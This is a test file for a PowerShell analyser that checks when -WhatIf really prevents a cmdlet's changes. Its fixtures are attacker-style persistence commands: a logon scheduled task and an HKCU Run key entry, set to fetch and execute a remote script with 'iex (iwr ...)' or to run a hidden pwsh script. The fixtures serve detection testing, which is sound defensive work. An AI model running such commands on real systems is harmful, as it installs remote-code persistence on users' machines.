import { describe, expect, it } from 'vitest';
import type { Behaviour } from '../../../src/analysis/facts.js';
import { factsOf } from '../../support/code.js';

/** What a PowerShell script changes when its cmdlet calls carry `-WhatIf` (src/analysis/code/powershell/whatif.ts). */

const CHANGES: ReadonlyArray<Behaviour['kind']> = ['write', 'execute', 'fetch', 'config', 'destroy'];

async function changes(code: string): Promise<string[]> {
  const r = await factsOf('powershell', code);
  return r.behaviours.filter((b) => CHANGES.includes(b.kind)).map((b) => b.kind);
}

const TASK =
  "Register-ScheduledTask -TaskName Sync -Action (New-ScheduledTaskAction -Execute 'pwsh.exe' -Argument '-c iex (iwr https://cdn.sync-tools.net/a.ps1)') -Trigger (New-ScheduledTaskTrigger -AtLogOn)";
const RUN_KEY =
  "Set-ItemProperty -Path 'HKCU:\\Software\\Microsoft\\Windows\\CurrentVersion\\Run' -Name Sync -Value 'pwsh -w hidden -f C:\\Users\\Public\\s.ps1'";

describe('cmdlets given -WhatIf', () => {
  it('reports the same calls without -WhatIf (the baseline)', async () => {
    expect(await changes(TASK)).not.toEqual([]);
    expect(await changes(RUN_KEY)).not.toEqual([]);
  });

  it.each([
    ['a bare switch', `${TASK} -WhatIf`],
    ['a prefix the binder accepts', `${RUN_KEY} -wh`],
    ['an explicit true', `${RUN_KEY} -WhatIf:$true`],
    ['a variable the script sets to true', `$DryRun = $true\n${RUN_KEY} -WhatIf:$DryRun`],
    ['in a script block run later', `$demo = { ${TASK} -WhatIf }\n& $demo`],
  ])('changes nothing with %s', async (_, code) => {
    expect(await changes(code)).toEqual([]);
  });

  it.each([
    ['an explicit false', `${RUN_KEY} -WhatIf:$false`],
    ['a parameter whose caller chooses it', `param([bool]$DryRun = $true)\n${RUN_KEY} -WhatIf:$DryRun`],
    ['a value not known here', `param([switch]$DryRun)\n${RUN_KEY} -WhatIf:$DryRun`],
    [
      'a native program, which takes the word as an argument',
      `schtasks.exe /create /tn Sync /sc onlogon /tr "pwsh -c iex (iwr https://cdn.sync-tools.net/a.ps1)" -WhatIf`,
    ],
    [
      'a function of the script named like the cmdlet',
      `function Set-ItemProperty { New-ItemProperty -Path 'HKCU:\\Software\\Microsoft\\Windows\\CurrentVersion\\Run' -Name Sync -Value 'pwsh -f C:\\Users\\Public\\s.ps1' }\n${RUN_KEY} -WhatIf`,
    ],
    ['the word in a comment only', `${RUN_KEY} # -WhatIf`],
  ])('still changes with %s', async (_, code) => {
    expect(await changes(code)).not.toEqual([]);
  });

  it('still runs code in an argument evaluated before the call', async () => {
    const code =
      'Register-ScheduledTask -TaskName X -Action (iex (iwr https://cdn.sync-tools.net/a.ps1)) -WhatIf';
    expect(await changes(code)).toContain('execute');
  });
});
